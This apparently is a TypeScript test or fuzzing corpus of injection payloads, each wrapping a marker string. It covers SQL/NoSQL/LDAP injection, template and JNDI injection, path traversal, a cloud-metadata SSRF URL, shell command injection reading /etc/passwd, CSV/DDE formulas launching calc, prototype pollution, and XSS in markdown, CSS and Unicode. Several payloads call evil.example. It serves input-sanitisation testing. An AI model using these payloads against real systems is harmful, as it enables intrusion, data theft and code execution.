const NUL = '\u0000';

/** Texts that are dangerous elsewhere than in a page, or only to those who read a page otherwise than it is written. */
export const OTHERS: readonly ((call: string) => string)[] = [
  // Databases
  (call) => `' OR '1'='1' -- ${call}`,
  (call) => `'; DROP TABLE "Account"; -- ${call}`,
  (call) => `1) UNION SELECT "PasswordHash" FROM "User" -- ${call}`,
  (call) => `\\'; SELECT pg_sleep(20); -- ${call}`,
  (call) => `%' ESCAPE '!' OR 1=1 ${call}`,
  (call) => `{"$gt":""} ${call}`,
  (call) => `{"$where":"${call}"}`,
  (call) => `*)(uid=*))(|(uid=* ${call}`,
  (call) => `admin*)((|userPassword=*) ${call}`,
  (call) => `' or count(/*)=1 or 'a'='b ${call}`,
  // Templates and expressions
  (call) => `{{7*7}}{{${call}}}`,
  (call) => `\${7*7}#{7*7}<%= ${call} %>`,
  (call) => `{{constructor.constructor('${call}')()}}`,
  (call) => `[[${call}]]{%raw%}{{7*7}}`,
  (call) => `%{${call}}$\{jndi:ldap://evil.example/a}`,
  (call) => `{0}{count, plural, other {${call}}}%s%n%x`,
  // Paths and files
  (call) => `../../../../etc/passwd ${call}`,
  (call) => `..\\..\\windows\\win.ini ${call}`,
  (call) => `/%2e%2e/%2e%2e/package.json ${call}`,
  (call) => `file:///etc/passwd ${call}`,
  (call) => `photo.php${NUL}.png ${call}`,
  (call) => `http://169.254.169.254/latest/meta-data ${call}`,
  (call) => `| cat /etc/passwd; \`id\` $(id) ${call}`,
  // Lines and headers
  (call) => `x\r\nSet-Cookie: evil=1\r\n\r\n<img src=x onerror=${call}>`,
  (call) => `x%0d%0aLocation:%20//evil.example ${call}`,
  (call) => `x\u2028Set-Cookie: evil=1\u2029${call}`,
  // Tables
  (call) => `=HYPERLINK("http://evil.example","${call}")`,
  (call) => `+cmd|' /C calc'!A0 ${call}`,
  (call) => `-2+3+cmd|' /C calc'!A0 ${call}`,
  (call) => `@SUM(1+1)*cmd|' /C calc'!A0 ${call}`,
  (call) => `\t=1+1;"x",${call}`,
  // Names of members
  (call) => `__proto__ ${call}`,
  (call) => `constructor[prototype][polluted]=${call}`,
  (call) => `{"__proto__":{"polluted":"${call}"}}`,
  // Markdown
  (call) => `[x](javascript:${call})`,
  (call) => `![x](x "onerror=${call}")`,
  (call) => `<javascript:${call}>`,
  (call) => `[x]: data:text/html,<script>${call}</script>`,
  (call) => `[x](//evil.example/${call})\n- [y](java\nscript:${call})`,
  (call) => `**<img src=x onerror=${call}>**`,
  // Style sheets
  (call) => `};body{background:url(//evil.example/${call})}`,
  (call) => `expression(${call})`,
  (call) => `red;background-image:url('javascript:${call}')`,
  (call) => `</style><style>@import '//evil.example/${call}';`,
  // Letters
  (call) => `\uff1cscript\uff1e${call}\uff1c/script\uff1e`,
  (call) => `\u202e<img src=x onerror=${call}>\u202c`,
  (call) => `+ADw-script+AD4-${call}+ADw-/script+AD4-`,
  (call) => `\u00bcscript\u00be${call}`,
  (call) => `<\u0130mg src=x onerror=${call}>`,
  (call) => `<ſcript>${call}</ſcript>`,
  (call) => `\ufeff\u200b\u200d\u2060${call}`,
  (call) => `e${'\u0301'.repeat(50)}${call}`,
  (call) => `\ud83d${call}\udc8a`,
  // Addresses
  (call) => `javascript:${call}`,
  (call) => `JaVa\tScRiPt:${call}`,
  (call) => `data:text/html,<script>${call}</script>`,
  // Patterns that try everything
  (call) => `${call}${'a'.repeat(900)}!`,
  (call) => `1${'\t'.repeat(900)}x ${call}`,
  (call) => `${'('.repeat(900)}${call}`,
  (call) => `${'1 x '.repeat(225)}${call}`,
];
